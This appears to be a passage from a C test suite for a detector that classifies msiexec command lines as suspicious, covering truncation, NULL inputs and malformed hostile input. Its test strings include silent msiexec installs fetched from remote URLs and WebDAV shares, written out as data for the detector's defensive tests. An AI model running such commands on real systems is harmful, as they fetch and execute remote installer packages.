        size_t o = (size_t)snprintf(big, sizeof big, "msiexec /i http://long.example/");
        memset(big + o, 'a', sizeof big - o - 1);
        big[sizeof big - 1] = '\0';
        msiexec_classify(NULL, NULL, big, &v);
        check_invariants(&v);
        CHECK(v.suspicious);
        CHECK(v.truncated);
        CHECK_STR(v.dest[0].host, "long.example");
        CHECK_EQ(strlen(v.package), MSIEXEC_PACKAGE_MAX - 1);
    }
    TEST_END();

    TEST_BEGIN("a host longer than the host field is cut and marked");
    {
        static char big[1200];
        size_t o = (size_t)snprintf(big, sizeof big, "msiexec /i \\\\");
        memset(big + o, 'h', 600);
        snprintf(big + o + 600, sizeof big - o - 600, "\\s\\x.msi");
        msiexec_classify(NULL, NULL, big, &v);
        check_invariants(&v);
        CHECK(v.suspicious && v.truncated);
        CHECK_EQ(strlen(v.dest[0].host), MSIEXEC_HOST_MAX - 1);
    }
    TEST_END();

    TEST_BEGIN("NULL image, file name and command line");
    msiexec_classify(NULL, NULL, NULL, &v);
    check_invariants(&v);
    CHECK(!v.is_msiexec && !v.suspicious);
    msiexec_classify("msiexec.exe", NULL, NULL, &v);
    check_invariants(&v);
    CHECK(v.is_msiexec && !v.suspicious);
    TEST_END();
}

/* ---- 5. hostile input ------------------------------------------------------------- */

static void hostile_one(const char *name, const char *cmd)
{
    static struct msiexec_verdict v;
    TEST_BEGIN(name);
    msiexec_classify("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", cmd, &v);
    check_invariants(&v);
    msiexec_classify(NULL, NULL, cmd, &v);
    check_invariants(&v);
    TEST_END();
}

static void hostile_tests(void)
{
    static char big[100001];

    memset(big, 'A', sizeof big - 1);
    big[sizeof big - 1] = '\0';
    hostile_one("hostile: 100,000 letters in one argument", big);

    for (size_t i = 0; i < sizeof big - 1; i++)
        big[i] = i % 2 ? ' ' : '/';
    hostile_one("hostile: 50,000 lone slashes", big);

    for (size_t i = 0; i < sizeof big - 1; i++)
        big[i] = "/i "[i % 3];
    hostile_one("hostile: 33,333 /i options each waiting for an argument", big);

    memset(big, '"', sizeof big - 1);
    hostile_one("hostile: 100,000 double quotes", big);

    memcpy(big, "msiexec /i \"http://h.example/", 29);
    memset(big + 29, '\\', 10000);
    big[29 + 10000] = '\0';
    hostile_one("hostile: URL ending in 10,000 backslashes and an open quote", big);
    memset(big + 29 + 10000, '"', 1);
    big[29 + 10001] = '\0';
    hostile_one("hostile: 10,000 backslashes then a quote", big);

    hostile_one("hostile: unbalanced quotes", "\"msiexec /i \"http://h.example/x.msi /qn \"\"\" \"");
    hostile_one("hostile: invalid UTF-8 everywhere",
                "msiexec \xFF\xFE /i \\\\h\xC3\x28\\s\xE2\x82\\\xF0\x28\x8C\xBC.msi TRANSFORMS=http://\x80\x81/t");
    hostile_one("hostile: control characters", "msiexec /i \"http://h\x01\x02\x7F.example/\x1B[31m\" /qn");
    hostile_one("hostile: truncated dash sequences", "msiexec \xE2\x80 \xE2 /i \xE2\x80\x93");
    hostile_one("hostile: @ suffix soup", "msiexec /i \\\\h@@@SSL@@99999999@@SSL@\\s\\x /j \\\\@\\s /a \\\\[\\s");
    hostile_one("hostile: brackets and colons", "msiexec /i http://[[[::]]]:::/ /p https://[ /a ftp://:@/");
    hostile_one("hostile: only separators", "msiexec /i \\\\\\\\\\\\\\\\ /j //////// /f file://////");
    hostile_one("hostile: IPv4 forms", "msiexec /i http://0x/ /a http://0xFFFFFFFFF/ /j http://1.2.3.4.5/ /f http://08/");

    TEST_BEGIN("hostile: every prefix of a real line classifies without harm");
    {
        static struct msiexec_verdict v;
        const char *line = "c:\\windows\\system32\\msiexec.exe  /q /i \"https://github.com/redcanaryco/x.msi\" "
                           "TRANSFORMS=\"\\\\h@SSL@443\\DavWWWRoot\\t.mst\" /l*v \\\\log\\l$\\x.log";
        size_t n = strlen(line);
        for (size_t cut = 0; cut <= n; cut++) {
            char *b = malloc(cut + 1);
            if (b == NULL)
                break;
            memcpy(b, line, cut);
            b[cut] = '\0';
            msiexec_classify(NULL, NULL, b, &v);
            check_invariants(&v);
            free(b);
        }
    }
    TEST_END();
}

int main(void)
{
    table();
    argv_tests();
    ref_tests();
    cls_tests();
    hostile_tests();
    return tap_done();
}
